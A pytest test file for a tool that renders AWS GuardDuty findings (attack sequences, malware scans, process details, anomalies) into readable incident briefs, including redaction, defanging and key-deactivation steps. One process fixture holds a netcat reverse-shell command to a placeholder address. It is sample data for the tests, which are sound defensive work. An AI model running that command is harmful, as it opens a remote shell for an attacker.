"""Attack sequences, malware, processes and anomalies are told so that a person understands them."""

import json

import pytest

from notifier.brief import Brief
from notifier.items.observed import MORE
from tests.findings import (
    Event,
    attack_sequence,
    leaked_lambda_credentials,
    low_finding,
    malware_in_object,
    malware_on_volume,
)
from tests.unit.notifier.briefs import brief_in


def lines(brief: Brief, title: str) -> list[tuple[str, str]]:
    """The facts of a section, in order."""
    return [(fact.label, fact.value) for section in brief.sections if section.title == title for fact in section.facts]


def test_an_attack_sequence_is_told_by_its_signals_in_order_and_by_who_from_where_and_on_what() -> None:
    brief = brief_in(attack_sequence())
    assert lines(brief, "Attack sequence") == [
        ("Signals", "2, in the order in which they began"),
        ("2026-11-23 02:58:00 UTC", "Suspicious sign-in (3 times; signin:ConsoleLogin)"),
        ("2026-11-23 03:40:00 UTC", "Trail deleted (cloudtrail:DeleteTrail failed with AccessDenied)"),
        ("Actor", "build (IAMUser, access key AKIAIOSFODNN7EXAMPLE, account 111122223333, MFA disabled)"),
        ("Resource", "payments-receipts (S3Bucket, 111122223333, eu-west-1)"),
        ("Endpoint", "198.51.100.24 port 443 (ExampleNet, AS64496, Amsterdam, Netherlands, inbound)"),
        ("Indicator", "Calls from a Tor exit node (198.51.100.24)"),
    ]
    assert brief.steps[0].text.startswith("Treat it as an incident")
    assert brief.severity_label == "Critical 9.0"


def test_of_a_long_attack_the_beginning_and_the_latest_are_told_and_what_is_left_out_is_counted() -> None:
    event = attack_sequence()
    began = [f"2026-11-23T{hour:02}:00:00Z" for hour in range(20)]
    event["detail"]["service"]["detection"]["sequence"] |= {
        "signals": [{"name": f"signal {number}", "firstSeenAt": at} for number, at in enumerate(began)],
        "actors": [{"id": f"actor-{number}"} for number in range(8)],
        "resources": [{"name": "payments-receipts"}],
        "endpoints": [{"ip": f"198.51.100.{number}"} for number in range(10)],
        "sequenceIndicators": [{"title": f"indicator {number}"} for number in range(12)],
        "additionalSequenceTypes": ["AttackSequence:S3/CompromisedData"],
    }
    told = lines(brief_in(event), "Attack sequence")
    assert [value for _, value in told[:10]] == [
        "20, in the order in which they began",
        "signal 0", "signal 1", "signal 2", "12 more, which GuardDuty lists",
        "signal 15", "signal 16", "signal 17", "signal 18", "signal 19",
    ]  # fmt: skip
    assert ("Actor", "and 5 more") in told
    assert ("Resource", "payments-receipts") in told
    assert ("Endpoint", "and 7 more") in told
    assert ("Indicator", "and 9 more") in told
    assert told[-1] == ("Also of type", "AttackSequence:S3/CompromisedData")


@pytest.mark.parametrize(("signals", "told"), [(7, 7), (8, 8), (9, 9)])
def test_nothing_is_counted_as_left_out_that_is_told(signals: int, told: int) -> None:
    event = attack_sequence()
    event["detail"]["service"]["detection"]["sequence"]["signals"] = [{"name": f"s{one}"} for one in range(signals)]
    shown = [value for _, value in lines(brief_in(event), "Attack sequence") if value.startswith("s")]
    assert len(shown) == min(told, 8)
    assert (("Then", "1 more, which GuardDuty lists") in lines(brief_in(event), "Attack sequence")) == (signals == 9)


def test_what_is_cut_is_said_to_be_cut() -> None:
    event = _with(threatIntel={}, evidence={"threatIntelligenceDetails": [
        {"threatListName": f"list {number}", "threatFileSha256": "ab"} for number in range(6)
    ]})  # fmt: skip
    assert MORE not in lines(brief_in(event), "Known threat")
    event = _with(evidence={"threatIntelligenceDetails": [{"threatListName": f"list {one}"} for one in range(7)]})
    assert lines(brief_in(event), "Known threat")[-1] == MORE
    event = _with(evidence={"threatIntelligenceDetails": {"threatNames": [f"t{one}" for one in range(8)]}})
    assert lines(brief_in(event), "Known threat") == [("Threat", "t0, t1, t2, t3, t4, t5 and 2 more")]
    behaviour = {f"who{one}": {f"what{two}": {"observed": "x"} for two in range(6)} for one in range(6)}
    event = _with(detection={"anomaly": {"unusual": {"behavior": behaviour}}})
    assert lines(brief_in(event), "Unusual")[-1] == MORE


def test_an_attack_leads_to_what_its_credentials_did_and_how_to_stop_them() -> None:
    brief = brief_in(attack_sequence())
    first, stop, history, _ = brief.steps
    assert first.text.startswith("Treat it as an incident")
    assert "See what the key AKIAIOSFODNN7EXAMPLE did" in history.text
    assert "AttributeValue=AKIAIOSFODNN7EXAMPLE" in history.snippets[0].text
    assert "it is a long-term key" in stop.text
    assert "update-access-key --access-key-id AKIAIOSFODNN7EXAMPLE --status Inactive --user-name build" in (
        stop.snippets[0].text
    )
    assert "other credentials" not in stop.text
    event = attack_sequence()
    event["detail"]["service"]["detection"]["sequence"]["actors"] = [{"process": {"name": "x"}}]
    assert len(brief_in(event).steps) == 1


def actor(key: str, *, account: str = "111122223333", name: str = "build") -> dict[str, object]:
    return {"user": {"name": name, "type": "IAMUser", "credentialUid": key, "account": {"uid": account}}}


def test_of_several_actors_the_first_has_the_commands_and_the_others_are_named() -> None:
    event = attack_sequence()
    event["detail"]["service"]["detection"]["sequence"]["actors"] = [
        actor("AKIAIOSFODNN7EXAMPLE"), actor("AKIAI44QH8DHBEXAMPLE", name="eve"), actor("AKIAI44QH8DHBEXAMPLE")
    ]  # fmt: skip
    brief = brief_in(event)
    stop = brief.steps[1]
    assert "other credentials as well, AKIAI44QH8DHBEXAMPLE: do this and what follows with each" in stop.text
    assert "--user-name build" in stop.snippets[0].text


def test_an_actor_of_another_account_gets_no_commands_for_this_one() -> None:
    """They would be about a role or user of the same name that has nothing to do with it."""
    event = attack_sequence()
    sequence = event["detail"]["service"]["detection"]["sequence"]
    sequence["actors"] = [actor("AKIAIOSFODNN7EXAMPLE", account="999988887777")]
    assert len(brief_in(event).steps) == 1
    sequence["actors"].append(actor("AKIAI44QH8DHBEXAMPLE", name="eve"))
    assert "--user-name eve" in brief_in(event).steps[-1].snippets[0].text


def test_malware_on_a_volume_is_told_by_threat_file_and_hash() -> None:
    brief = brief_in(malware_on_volume())
    assert lines(brief, "Malware") == [
        ("Worst threat", "Example.Miner (HIGH, 2 files)"),
        ("Threat", "Example.Miner (HIGH, 2 files)"),
        ("File", f"/opt/.x/miner ({'ab' * 32})"),
        ("Scanned", "4,201 files, 1 volume"),
        ("Scan", "guardduty initiated"),
        ("Started by finding", "9ef0718293a4b5c6d7e8f901a2b3c4d5"),
    ]
    assert "Do not download or run them" in brief.steps[0].text


def test_malware_in_an_object_is_told_by_threat_item_and_hash() -> None:
    brief = brief_in(malware_in_object())
    assert lines(brief, "Malware") == [
        ("Object", "in/cv.pdf (version s3Xk2vT9mQ4rB7nW1pZ6cY8dF5gH0jLa)"),
        ("Threat", "EICAR-Test-File (BITDEFENDER, 1 item)"),
        ("SHA-256", "cd" * 32),
        ("Item", f"in/cv.pdf ({'cd' * 32})"),
        ("Scan", "on demand, full scan"),
    ]


def test_of_many_objects_the_first_are_named_and_the_others_counted() -> None:
    event = malware_in_object()
    event["detail"]["resource"]["s3BucketDetails"][0]["s3ObjectDetails"] = [
        {"objectArn": "arn:aws:s3:::uploads/a", "versionId": "null"},
        {"key": "token=hunter2hunter2", "versionId": None},
        {"eTag": "neither key nor ARN"},
        *({"key": f"in/{number}"} for number in range(6)),
    ]
    told = [value for label, value in lines(brief_in(event), "Malware") if label == "Object"]
    assert told == ["arn:aws:s3:::uploads/a", "token=(hidden)", "in/0", "in/1", "in/2", "and 3 more"]


def test_an_object_without_a_scan_is_told_and_not_called_malware() -> None:
    event = malware_in_object()
    del event["detail"]["service"]["malwareScanDetails"]
    brief = brief_in(event)
    assert lines(brief, "Malware") == []
    assert lines(brief, "Object") == [("Object", "in/cv.pdf (version s3Xk2vT9mQ4rB7nW1pZ6cY8dF5gH0jLa)")]


def _with(**service: object) -> Event:
    event = low_finding()
    event["detail"]["service"] |= service
    return event


def test_a_process_is_told_by_its_path_and_hash_and_who_started_it() -> None:
    process = {
        "name": "miner", "executablePath": "/opt/miner", "executableSha256": "ab" * 32, "user": "www-data",
        "lineage": [{"name": "sh"}, {"name": "nginx"}],
    }  # fmt: skip
    brief = brief_in(_with(runtimeDetails={"process": process, "context": {"releaseAgentPath": "/sys/x"}}))
    assert lines(brief, "Process") == [
        ("Name", "miner"), ("Path", "/opt/miner"), ("SHA-256", "ab" * 32), ("User", "www-data"),
        ("Started by", "sh / nginx"), ("Release agent path", "/sys/x"),
    ]  # fmt: skip


def test_times_of_a_process_are_told_as_people_read_them_and_none_of_what_surrounds_it_is_left_out() -> None:
    context = {
        "modifiedAt": 1693943450, "modifyingProcess": {"name": "vi"}, "targetProcess": {"executablePath": "/bin/x"},
        "scriptPath": "/opt/a.sh", "libraryPath": "/opt/a.so", "ldPreloadValue": "a.so", "socketPath": "/run/a",
        "mountSource": "/proc", "moduleSha256": "ab" * 32, "ianaProtocolNumber": 6, "flags": ["a", "b", "c", "d"],
        "commandLineExample": "nc -e /bin/sh 203.0.113.9 4444",
    }  # fmt: skip
    lineage = [{"name": f"p{number}"} for number in range(8)]
    brief = brief_in(_with(runtimeDetails={"process": {"lineage": lineage}, "context": context}))
    assert lines(brief, "Process") == [
        ("Started by", "p0 / p1 / p2 / p3 / p4 / p5 and 2 more"), ("Modified by", "vi"), ("Target", "/bin/x"),
        ("Modified at", "2023-09-05 19:50:50 UTC"), ("Script path", "/opt/a.sh"), ("Library path", "/opt/a.so"),
        ("Ld preload value", "a.so"), ("Socket path", "/run/a"), ("Mount source", "/proc"),
        ("Module sha256", "ab" * 32), ("Iana protocol number", "6"), ("Flags", "a"), ("Flags", "b"), ("Flags", "c"),
        ("And", "1 more flags"), ("Command line example", "nc -e /bin/sh 203.0.113.9 4444"),
    ]  # fmt: skip


def test_an_anomaly_is_told_by_what_was_seen_and_behind_it_how_seldom_it_is() -> None:
    apis = ["ListUsers", "ListRoles", "GetAccountAuthorizationDetails", "ListAccessKeys"]
    behaviour = {
        "Account Profile": {
            "api": {"profileType": "FREQUENCY", "profileSubtype": "RARE", "observations": {"text": apis}},
            "asnOrg": {
                "profileType": "FREQUENCY",
                "profileSubtype": "UNSEEN",
                "observations": {"text": ["ExampleNet"]},
            },
            "bytes": {"profileType": "VOLUME", "observations": {"number": [7, 1.5, None]}},
            "userAgent": {"profileType": "FREQUENCY", "profileSubtype": "INFREQUENT"},
            "bucket": {"observations": {"text": [f"b{one}" for one in range(6)], "number": "x"}},
            "odd": "text",
            "more": {},
            "most": {},
        },
        "Empty": None,
    }
    event = _with(detection={"anomaly": {"profiles": {"x": {}}, "unusual": {"behavior": behaviour}}})
    assert lines(brief_in(event), "Unusual") == [
        ("Account profile", "API: ListUsers, ListRoles, GetAccountAuthorizationDetails, ListAccessKeys (rare)"),
        ("Account profile", "ASN org: ExampleNet (unseen)"),
        ("Account profile", "bytes: 7, 1.5"),
        ("Account profile", "user agent (infrequent)"),
        ("Account profile", "bucket: b0, b1, b2, b3 and 2 more"),
        ("Account profile", "odd"),
        ("Account profile", "and 2 more"),
    ]
    many: Event = {f"who{one}": {"api": {}} for one in range(7)}
    event = _with(detection={"anomaly": {"unusual": {"behavior": many}}})
    assert lines(brief_in(event), "Unusual")[5:] == [("Who5", "API"), MORE]


def test_an_anomaly_and_a_threat_list_are_told() -> None:
    brief = brief_in(
        _with(
            detection={
                "anomaly": {"unusual": {"behavior": {"CALLER": {"api": {"observations": {"text": ["CopyObject"]}}}}}}
            },
            evidence={"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["scanner"]}]},
        )
    )
    assert lines(brief, "Unusual") == [("CALLER", "API: CopyObject")]
    assert lines(brief, "Known threat") == [("Threat list", "ProofPoint: scanner")]


def _info(info: object) -> Brief:
    return brief_in(_with(additionalInfo=info))


UNUSUAL: dict[str, object] = {
    "sample": False,
    "anomalies": {
        "anomalousAPIs": "iam.amazonaws.com:[CreateAccessKey:success , CreateUser:success] , evil.example:[X:success]"
    },
    "profiledBehavior": {"frequentProfiledASNsAccountProfiling": "asnNumber: 16509 asnOrg: AMAZON-02"},
    "unusualBehavior": {
        "unusualAPIsAccountProfiling": "CreateAccessKey",
        "unusualAPIsUserIdentityProfiling": "",
        "unusualASNsUserIdentityProfiling": "asnNumber: 64500 asnOrg: LUS",
        "unusualASNsBucketProfiling": "x",
        "numberOfPast24HoursAPIsBucketUserIdentityProfiling": 3,
        "isUnusualUserIdentity": "false",
        "isUnusual": False,
    },
}
TOLD = [
    (
        "Anomalous APIs",
        "iam.amazonaws.com:[CreateAccessKey:success, CreateUser:success], evil[.]example:[X:success]",
    ),
    ("Unusual APIs", "CreateAccessKey (for the account)"),
    ("Unusual ASNs", "asnNumber: 64500 asnOrg: LUS (for the user identity)"),
    ("Unusual ASNs", "x (for the bucket)"),
    ("Number of past24 hours APIs", "3 (for the user identity in the bucket)"),
]


@pytest.mark.parametrize(
    "info",
    [
        pytest.param(UNUSUAL, id="as-it-is"),
        pytest.param({"value": json.dumps(UNUSUAL), "type": "default"}, id="as-text"),
        pytest.param({"value": UNUSUAL}, id="as-an-object"),
    ],
)
def test_what_was_unusual_is_told_in_both_forms_and_what_is_usual_is_not(info: object) -> None:
    assert lines(_info(info), "Also observed") == TOLD


@pytest.mark.parametrize(
    ("info", "told"),
    [
        pytest.param({"unusual": "22"}, [("Unusual", "22")], id="text"),
        pytest.param({"unusualProtocol": " ", "inBytes": 0}, [("In bytes", "0")], id="a-number"),
        pytest.param({"blocked": True}, [("Blocked", "yes")], id="a-truth"),
        pytest.param(
            {"portsScannedSample": list(range(12))},
            [("Ports scanned sample", "0, 1, 2, 3, 4, 5, 6, 7, 8, 9 and 2 more")],
            id="a-list",
        ),
        pytest.param(
            {"oldPolicy": {"maxPasswordAge": 90}, "newPolicy": {"maxPasswordAge": 0, "hardExpiry": False}},
            [("Old policy", "max password age 90"), ("New policy", "max password age 0; hard expiry no")],
            id="an-object",
        ),
        pytest.param(
            {"many": {f"m{one}": one for one in range(10)}},
            [("Many", "m0 0; m1 1; m2 2; m3 3; m4 4; m5 5; m6 6; m7 7; and 2 more")],
            id="an-object-of-many",
        ),
        pytest.param(
            {"apiCalls": [{"name": f"Call{one}", "firstSeenAt": 1795405200.0} for one in range(8)]},
            [
                *(("API calls", f"name Call{one}; first seen at 2026-11-23 03:40:00 UTC") for one in range(6)),
                ("API calls", "and 2 more"),
            ],
            id="objects",
        ),
        pytest.param({"anomalies": "odd", "unusualBehavior": ["odd"]}, [
            ("Anomalies", "odd"), ("Unusual behavior", "odd"),
        ], id="of-another-kind"),
        pytest.param(
            {"anomalies": {"anomalousAPIs": {"s3.amazonaws.com": ["ListBuckets", "GetObject"]}}},
            [("Anomalous APIs", "s3.amazonaws.com ListBuckets; s3.amazonaws.com GetObject")],
            id="apis-by-service",
        ),
        pytest.param(
            {"domain": "evil.example", "context": "token=abcdefgh12345678"},
            [("Domain", "evil[.]example"), ("Context", "token=(hidden)")],
            id="text-of-others",
        ),
    ],
)  # fmt: skip
def test_whatever_else_guardduty_adds_is_told(info: object, told: list[tuple[str, str]]) -> None:
    assert lines(_info(info), "Also observed") == told


def test_of_a_long_list_in_one_text_what_is_left_out_is_counted() -> None:
    calls = [f"VeryLongNameOfACall{one:02}" for one in range(30)]
    ((_, told),) = lines(_info({"anomalies": {"anomalousAPIs": " , ".join(calls)}}), "Also observed")
    assert told == ", ".join(calls[:7]) + " and 23 more"
    ((_, told),) = lines(_info({"context": " , ".join(["x" * 300, "y"])}), "Also observed")
    assert told == "x" * 159 + "… and 1 more"


def test_of_very_much_the_first_lines_are_told_and_that_there_is_more() -> None:
    told = lines(_info({f"member{one}": one for one in range(40)}), "Also observed")
    assert len(told) == 29
    assert told[-1] == MORE


@pytest.mark.parametrize(
    "info", [None, [], "x", {}, {"value": "{}", "type": "default"}, {"value": "{"}, {"value": "7"}]
)
def test_what_adds_nothing_is_not_told(info: object) -> None:
    assert "Also observed" not in {section.title for section in _info(info).sections}


@pytest.mark.parametrize(
    ("info", "told"),
    [
        pytest.param(
            {"threatListName": "ProofPoint", "threatName": "Scanner"}, [("Threat list", "ProofPoint: Scanner")],
            id="both",
        ),
        pytest.param({"value": '{"threatName":"Scanner"}'}, [("Threat", "Scanner")], id="a-threat"),
        pytest.param({"threatName": ["Scanner", "Miner"]}, [("Threat", "Scanner, Miner")], id="threats"),
        pytest.param({"threatListName": "Ours", "threatFileSha256": "ab" * 32}, [
            ("Threat list", "Ours"), ("SHA-256", "ab" * 32),
        ], id="a-file"),
    ],
)  # fmt: skip
def test_a_threat_is_told_of_a_finding_without_evidence(info: object, told: list[tuple[str, str]]) -> None:
    nothing: tuple[object, ...] = (None, {}, {"threatIntelligenceDetails": []}, {"threatIntelligenceDetails": [{}]})
    for none in nothing:
        assert lines(brief_in(_with(evidence=none, additionalInfo=info)), "Known threat") == told
    evidence = {"threatIntelligenceDetails": [{"threatListName": "Amazon", "threatNames": ["Tor"]}]}
    brief = brief_in(_with(evidence=evidence, additionalInfo=info))
    assert lines(brief, "Known threat") == [("Threat list", "Amazon: Tor")]
    assert "Also observed" not in {section.title for section in brief.sections}


def test_the_whole_user_agent_is_told_where_the_call_has_none() -> None:
    agent = {"fullUserAgent": "python-requests/2.31 evil.example", "userAgentCategory": "python-requests"}
    event = leaked_lambda_credentials()
    event["detail"]["service"]["additionalInfo"] = {"userAgent": agent}
    assert ("User agent", "aws-cli/2.31.0 Python/3.13.7 Linux/6.8.0") in lines(brief_in(event), "Caller")
    del event["detail"]["service"]["action"]["awsApiCallAction"]["userAgent"]
    brief = brief_in(event)
    assert ("User agent", "python-requests/2.31 evil[.]example") in lines(brief, "Caller")
    assert "Also observed" not in {section.title for section in brief.sections}


@pytest.mark.parametrize(
    ("member", "label"),
    [("associatedAttackSequenceArn", "Part of the sequence"), ("customDetectionRuleName", "Detection rule")],
)
def test_what_a_finding_belongs_to_is_told(member: str, label: str) -> None:
    brief = brief_in(low_finding(**{member: "arn:aws:guardduty:eu-west-1:111122223333:x"}))
    assert (label, "arn:aws:guardduty:eu-west-1:111122223333:x") in lines(brief, "Finding")
